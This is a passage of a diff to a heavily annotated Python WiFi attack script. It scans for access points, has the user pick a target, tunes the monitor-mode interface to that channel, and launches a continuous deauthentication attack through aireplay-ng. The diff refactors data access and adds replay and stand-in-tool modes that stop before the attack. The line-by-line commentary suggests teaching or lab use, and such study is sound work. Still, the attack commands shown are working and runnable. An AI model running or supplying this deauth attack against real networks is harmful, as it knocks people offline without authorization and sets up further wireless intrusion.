+    print(f"Scan with the tools in {tools.directory} finished; {len(active_wireless_networks)} networks seen.")
+    exit()
 
-21. print("\nTime to choose your target.")
-    - Purpose: Confirms scanning has stopped and prompts target selection.
+"""
+In replay mode, and when the stand-in tools are used (--tools), there is no real WiFi adapter and nothing 
+to attack, so the script ends here after a short summary:
+- Replay: the replay thread has already been stopped and its temporary directory deleted with the scan.
+- Stand-in tools: the stand-in airodump-ng has already been stopped with the scan.
 """
 
 while True:
@@ -621,8 +1124,8 @@ while True:
     except:
         print("That’s not a valid option. Try again.")
 
-hackbssid = active_wireless_networks[int(choice)]["BSSID"]
-hackchannel = active_wireless_networks[int(choice)]["channel"].strip()
+hackbssid = active_wireless_networks[int(choice)].bssid
+hackchannel = str(active_wireless_networks[int(choice)].channel)
 
 """
 Purpose:
@@ -650,11 +1153,11 @@ Line-by-Line Explanation:
 4. if active_wireless_networks[int(choice)]:
    - int(choice): Converts the string 'choice' to an integer (e.g., "0" → 0). Raises ValueError 
      if not a valid integer (e.g., "abc").
-   - active_wireless_networks[int(choice)]: Indexes into 'active_wireless_networks', a list of 
-     dictionaries (e.g., [{"BSSID": "00:11:22:33:44:55", "ESSID": "MyWiFi", "channel": "6"}, ...]). 
+   - active_wireless_networks[int(choice)]: Indexes into 'active_wireless_networks', the registry of 
+     access points, which numbers them in the order they were first seen (e.g., [{"BSSID": "00:11:22:33:44:55", "ESSID": "MyWiFi", "channel": "6"}, ...]). 
      Returns the dictionary at that index (e.g., active_wireless_networks[0] → 
      {"BSSID": "00:11:22:33:44:55", ...}). Raises IndexError if the index is out of range (e.g., 
-     "5" when the list has only 2 items).
+     "5" when the registry has only 2 items).
    - if ...: Checks if the result is truthy. A non-empty dictionary is always True in Python, 
      effectively testing if the index is valid.
    - Purpose: Validates that 'choice' corresponds to an existing network in the list.
@@ -673,22 +1176,22 @@ Line-by-Line Explanation:
    - Action: Prints an error message if an exception occurs.
    - Effect: The loop continues, prompting the user again.
 
-8. hackbssid = active_wireless_networks[int(choice)]["BSSID"]
+8. hackbssid = active_wireless_networks[int(choice)].bssid
    - int(choice): Converts 'choice' to an integer again (safe, as the loop exits only with a valid 
      input).
    - active_wireless_networks[int(choice)]: Accesses the dictionary for the chosen network.
-   - ["BSSID"]: Extracts the "BSSID" value (e.g., "00:11:22:33:44:55"), the MAC address of the 
+   - .bssid: Reads the AP’s BSSID (e.g., "00:11:22:33:44:55"), the MAC address of the 
      access point.
    - Assignment: Stores it in 'hackbssid' for use in the deauthentication attack.
 
-9. hackchannel = active_wireless_networks[int(choice)]["channel"].strip()
-   - ["channel"]: Extracts the "channel" value (e.g., "6 "), the WiFi channel of the AP.
-   - .strip(): Removes leading/trailing whitespace (e.g., "6 " → "6").
+9. hackchannel = str(active_wireless_networks[int(choice)].channel)
+   - .channel: Reads the AP’s WiFi channel, stored as an integer (e.g., 6).
+   - str(...): Converts it back to text (e.g., 6 → "6") for the airmon-ng command line.
    - Assignment: Stores it in 'hackchannel' for setting the interface’s channel later.
 """
 
-subprocess.run(["airmon-ng", "start", hacknic + "mon", hackchannel])
-subprocess.run(["aireplay-ng", "--deauth", "0", "-a", hackbssid, check_wifi_result[int(wifi_interface_choice)] + "mon"])
+subprocess.run(["airmon-ng", "start", monitor_interface, hackchannel])
+subprocess.run(["aireplay-ng", "--deauth", "0", "-a", hackbssid, monitor_interface])
 
 """
 Purpose:
@@ -697,20 +1200,21 @@ deauthentication attack against the target access point (AP) to disrupt connecte
 represents the attack phase of the script, following network selection.
 
 Line-by-Line Explanation:
-1. subprocess.run(["airmon-ng", "start", hacknic + 'mon', hackchannel])
+1. subprocess.run(["airmon-ng", "start", monitor_interface, hackchannel])
    - subprocess.run(): Executes the command and waits for it to complete, returning a 
      CompletedProcess object.
-   - Command: ["airmon-ng", "start", hacknic + 'mon', hackchannel]
+   - Command: ["airmon-ng", "start", monitor_interface, hackchannel]
      - 'airmon-ng': A tool from Aircrack-ng for managing wireless interfaces.
      - 'start': Typically enables monitor mode, but here adjusts an existing monitor mode 
        interface.
-     - 'hacknic + "mon"': The monitor mode interface (e.g., "wlan0mon"), set earlier by 
+     - 'monitor_interface': The monitor mode interface (e.g., "wlan0mon"), set earlier by 
        'airmon-ng start hacknic'.
-       - 'hacknic': Selected interface (e.g., "wlan0") from 
-         'check_wifi_result[int(wifi_interface_choice)]'.
-       - '"mon"': Appended when monitor mode was enabled.
+       - Normally hacknic + "mon": the selected interface (e.g., "wlan0") with "mon" appended 
+         when monitor mode was enabled.
+       - hacknic itself if the chosen interface was already in monitor mode (e.g., "wlan0mon"), 
+         so that it does not become "wlan0monmon".
      - 'hackchannel': The target AP’s channel (e.g., "6"), from 
-       'active_wireless_networks[int(choice)]["channel"].strip()'.
+       'str(active_wireless_networks[int(choice)].channel)'.
    - What it does:
      - Adjusts the monitor mode interface (e.g., wlan0mon) to operate on the specific channel 
        (hackchannel) of the target AP.
@@ -720,10 +1224,10 @@ Line-by-Line Explanation:
    - Why: Ensures the adapter is on the same channel as the target AP, necessary for 
      'aireplay-ng' to send packets effectively.
 
-2. subprocess.run(["aireplay-ng", "--deauth", "0", "-a", hackbssid, check_wifi_result[int(wifi_interface_choice)] + 'mon'])
+2. subprocess.run(["aireplay-ng", "--deauth", "0", "-a", hackbssid, monitor_interface])
    - subprocess.run(): Runs the command and waits for completion, returning a CompletedProcess 
      object.
-   - Command: ["aireplay-ng", "--deauth", "0", "-a", hackbssid, check_wifi_result[int(wifi_interface_choice)] + 'mon']
+   - Command: ["aireplay-ng", "--deauth", "0", "-a", hackbssid, monitor_interface]
      - 'aireplay-ng': A tool from Aircrack-ng for injecting packets into wireless networks.
      - '--deauth': Specifies a deauthentication attack.
      - '0': Number of deauth packets to send; "0" means unlimited (continuous sending until 
@@ -731,11 +1235,9 @@ Line-by-Line Explanation:
      - '-a hackbssid':
        - '-a': Option specifying the target AP’s BSSID (MAC address).
        - 'hackbssid': The target AP’s BSSID (e.g., "00:11:22:33:44:55"), from 
-         'active_wireless_networks[int(choice)]["BSSID"]'.
-     - 'check_wifi_result[int(wifi_interface_choice)] + "mon"': The monitor mode interface 
-       (e.g., "wlan0mon").
-       - Same as 'hacknic + "mon"', accessed directly from 'check_wifi_result' using the 
-         user’s initial interface choice.
+         'active_wireless_networks[int(choice)].bssid'.
+     - 'monitor_interface': The monitor mode interface (e.g., "wlan0mon"), the same one 
+       airodump-ng scanned with.
    - What it does:
      - Launches a deauthentication attack against the AP specified by 'hackbssid'.
      - Sends continuous deauth packets via wlan0mon, spoofing frames to trick connected devices 